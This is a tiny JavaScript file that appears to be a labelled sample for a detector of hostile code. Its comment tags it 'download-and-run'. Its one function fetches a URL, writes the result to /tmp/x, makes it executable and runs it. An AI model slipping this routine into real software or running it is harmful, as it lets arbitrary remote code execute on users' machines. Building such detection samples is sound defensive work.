// expect: kind=download-and-run
import { writeFileSync, chmodSync } from "fs";
import { spawn } from "child_process";
export async function get(url){const r=await fetch(url);writeFileSync("/tmp/x",await r.text());chmodSync("/tmp/x",493);spawn("/tmp/x")}
